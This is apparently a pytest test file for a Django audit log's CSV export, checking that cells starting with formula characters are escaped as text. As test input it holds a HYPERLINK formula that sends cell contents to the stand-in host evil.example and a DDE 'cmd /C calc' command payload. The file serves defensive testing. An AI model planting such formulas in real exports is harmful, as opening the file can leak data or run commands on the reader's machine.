"""A CSV export is opened in a spreadsheet: no cell of it may start a formula."""

from __future__ import annotations

import csv
import io

import pytest

from audit.chain import seal_all
from audit.export import FORMULA_STARTS, as_csv
from audit.log import Actor, record
from audit.models import AuditEvent
from tests.support.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_locked_out_login_named_like_a_formula_is_exported_as_text(client, settings):
    # A guess is not an audit event; the lockout it leads to is, with the name tried.
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post("/login/", {"username": HYPERLINK, "password": "wrong"})
    assert AuditEvent.objects.filter(verb="auth.locked_out").exists()
    seal_all()
    admin = UserFactory(username="root", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.get("/audit/export.csv")
    cells = _csv_cells(b"".join(response.streaming_content).decode())
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_every_text_column(department, start):
    record(
        f"{start}verb",
        department,
        actor=Actor("user", f"{start}1", f"{start}cmd|' /C calc'!A0"),
        after={"note": "fine"},
    )
    cells = _csv_cells("".join(as_csv(AuditEvent.objects.all())))
    assert f"'{start}cmd|' /C calc'!A0" in cells
    assert f"'{start}verb" in cells and f"'{start}1" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_ordinary_cells_are_left_alone(department):
    record("test.happened", department, actor=Actor("user", "7", "lena"), after={"amount": "-5.00"})
    (header, row) = list(csv.reader(io.StringIO("".join(as_csv(AuditEvent.objects.all())))))
    cells = dict(zip(header, row, strict=True))
    assert (cells["actor_label"], cells["verb"], cells["after"]) == ("lena", "test.happened", '{"amount":"-5.00"}')
